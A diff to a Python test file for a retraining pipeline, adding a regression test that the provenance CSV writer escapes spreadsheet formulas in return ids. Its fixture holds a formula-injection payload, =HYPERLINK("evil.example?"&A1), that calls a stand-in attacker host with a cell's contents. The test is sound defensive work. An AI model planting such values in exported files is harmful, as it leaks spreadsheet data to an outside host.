@@ -17,6 +17,7 @@ from training.retrain import (
     refit_review_threshold,
     split_recent,
     without_texts,
+    write_provenance,
 )
 from triage.settings import Settings
 
@@ -139,3 +140,12 @@ def test_a_gain_of_exactly_the_margin_and_a_loss_of_exactly_the_tolerance_promot
     assert not short.promoted and short.reasons == ["recent-feedback accuracy gain +0.018 is below the margin 0.02"]
     lost = judge({"champion": _scores(0.5, 0.71, 0.9), "challenger": _scores(0.6, 0.699, 0.9)}, 0.02, 0.01)
     assert lost.reasons == ["recent accuracy in fr worse by 0.011 (tolerance 0.01)"]
+
+
+def test_the_provenance_csv_shows_a_formula_return_id_as_text(tmp_path: Path) -> None:
+    # the API takes "=HYPERLINK(...)" as a return id; written as is, a spreadsheet opening training_rows.csv ran it
+    provenance = pd.DataFrame({"return_id": ['=HYPERLINK("evil.example?"&A1)', "R1"], "feedback_id": [3, 4]})
+    write_provenance(provenance, tmp_path / "training_rows.csv")
+    written = pd.read_csv(tmp_path / "training_rows.csv")
+    assert written["return_id"].tolist() == ['\'=HYPERLINK("evil.example?"&A1)', "R1"]
+    assert written["feedback_id"].tolist() == [3, 4]
